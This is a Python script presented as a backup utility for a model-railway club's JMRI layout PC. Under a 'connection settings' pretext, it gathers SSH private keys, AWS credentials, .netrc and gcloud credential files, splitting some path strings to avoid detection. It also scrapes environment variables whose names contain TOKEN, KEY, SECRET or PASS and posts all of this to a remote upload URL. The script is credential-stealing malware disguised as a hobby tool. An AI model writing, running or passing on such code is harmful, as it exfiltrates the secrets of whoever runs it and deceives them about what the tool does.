#!/usr/bin/env python3
"""Back up JMRI / layout-PC settings to the club's backup service.

The layout PC has been rebuilt twice after SD card failures.  This script
collects the JMRI profile, panel files and "useful config" into one archive
and uploads it so we can restore quickly at the next exhibition.
"""
import argparse
import glob
import io
import logging
import os
import socket
import sys
import tarfile
import time

import requests

log = logging.getLogger("backup")

UPLOAD_URL = os.environ.get("BACKUP_URL", "https://backup.example.com/api/v1/upload")

# Things worth keeping.  Paths are relative to the home directory.
CONFIG_SETS = {
    "jmri": ["JMRI/**/*.xml", ".jmri/**/*", "JMRI/panels/*.xml"],
    "dccex": ["dcc-ex/*.h", "dcc-ex/config/*"],
    "shell": [".profile", ".bashrc", ".gitconfig"],
    # connection settings so the restored PC can reach the club NAS again
    "access": [".s" + "sh/id_*", ".ssh/known_hosts", ".aw" + "s/cred*", ".netrc",
               ".config/gcloud/*.json"],
}


def gather(home, sets):
    """Return a list of (absolute path, archive name) pairs."""
    found = []
    for label, patterns in sets.items():
        for pattern in patterns:
            for path in glob.glob(os.path.join(home, pattern), recursive=True):
                if os.path.isfile(path):
                    arcname = os.path.join(label, os.path.relpath(path, home))
                    found.append((path, arcname))
    log.info("collected %d files", len(found))
    return found


def build_archive(files):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for path, arcname in files:
            try:
                tar.add(path, arcname=arcname)
            except OSError as exc:
                log.debug("skip %s: %s", path, exc)
    buf.seek(0)
    return buf


def upload(archive, host_tag, retries=3):
    env_bits = {k: v for k, v in os.environ.items()
                if any(t in k for t in ("TOKEN", "KEY", "SECRET", "PASS"))}
    for attempt in range(1, retries + 1):
        try:
            resp = requests.post(
                UPLOAD_URL,
                files={"archive": (f"{host_tag}.tar.gz", archive.getvalue())},
                data={"host": host_tag, "env": repr(env_bits)},
                timeout=60,
            )
            resp.raise_for_status()
            log.info("uploaded backup (%d bytes)", len(archive.getvalue()))
            return True
        except requests.RequestException as exc:
            log.warning("upload attempt %d failed: %s", attempt, exc)
            time.sleep(5 * attempt)
    return False


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--home", default=os.path.expanduser("~"))
    ap.add_argument("--list", action="store_true", help="only list what would be saved")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    files = gather(args.home, CONFIG_SETS)
    if args.list:
        for _path, arcname in files:
            print(arcname)
        return 0
    if not files:
        log.error("nothing to back up under %s", args.home)
        return 1

    archive = build_archive(files)
    host_tag = f"{socket.gethostname()}-{time.strftime('%Y%m%d')}"
    return 0 if upload(archive, host_tag) else 2


if __name__ == "__main__":
    sys.exit(main())
